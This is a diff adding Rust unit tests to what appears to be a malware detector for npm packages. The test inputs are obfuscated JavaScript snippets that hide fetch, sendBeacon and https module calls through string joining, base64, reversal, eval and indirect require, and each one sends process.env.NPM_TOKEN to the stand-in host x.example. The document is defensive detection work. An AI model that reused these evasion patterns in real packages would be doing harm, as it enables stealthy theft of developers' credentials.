@@ -157,3 +157,64 @@ fn is_of_other_file(value: &Value) -> bool {
     let is_of_package = |specifier: &Atom| specifier.starts_with(['.', '#', '/']);
     matches!(value, Value::Path(path) if matches!(&path.root, Root::Module(specifier) if is_of_package(specifier)))
 }
+
+#[cfg(test)]
+mod tests {
+    use molehunt_model::Behaviour;
+
+    use crate::testing::extracted;
+
+    fn sends(code: &str) -> usize {
+        let facts = extracted(code).facts;
+        facts.iter().filter(|fact| matches!(fact.behaviour, Behaviour::SendData(_))).count()
+    }
+
+    #[test]
+    fn a_global_is_known_however_its_name_is_made() {
+        for callee in [
+            "globalThis[['fe', 'tch'].join('')]",
+            "globalThis['fetches'.slice(0, 5)]",
+            "globalThis[decodeURIComponent('%66etch')]",
+            "self[atob('ZmV0Y2g=')]",
+            "Reflect.get(global, 'hctef'.split('').reverse().join(''))",
+            "Function('return this')()[`fe${'tch'}`]",
+            "(0, eval)('this')[`fe${'tch'}`]",
+            "navigator[['send', 'Beacon'].join('')]",
+            "((o, k) => o[k])(globalThis, ['fe', 'tch'].join(''))",
+        ] {
+            let code = format!("{callee}('https://x.example/?' + process.env.NPM_TOKEN)");
+            assert_eq!(sends(&code), 1, "{callee}");
+        }
+    }
+
+    #[test]
+    fn a_module_is_known_however_it_is_loaded() {
+        for module in [
+            "require(['ht', 'tps'].join(''))",
+            "process.mainModule.require('https')",
+            "process.getBuiltinModule('node:https')",
+            "module.constructor._load('https')",
+            "require('module')._load(['ht', 'tps'].join(''))",
+            "require('module').createRequire(__filename)('https')",
+            "require.main.require('https')",
+        ] {
+            let code = format!("{module}.get('https://x.example/?' + process.env.NPM_TOKEN)");
+            assert_eq!(sends(&code), 1, "{module}");
+        }
+    }
+
+    #[test]
+    fn what_is_looked_up_in_something_else_is_not_that() {
+        for callee in ["table[['fe', 'tch'].join('')]", "globalThis[['ca', 'che'].join('')]", "globalThis[name]"] {
+            let code = format!("{callee}('https://x.example/?' + process.env.NPM_TOKEN)");
+            assert_eq!(sends(&code), 0, "{callee}");
+        }
+    }
+
+    #[test]
+    fn a_name_from_another_file_is_asked_for() {
+        assert!(extracted("const n = require('./n'); globalThis[n.ask](url)").asks_others());
+        assert!(extracted("const n = require('./n'); globalThis[n.ask()](url)").asks_others());
+        assert!(!extracted("const n = require('./n'); require(n.find('x'))").asks_others());
+    }
+}
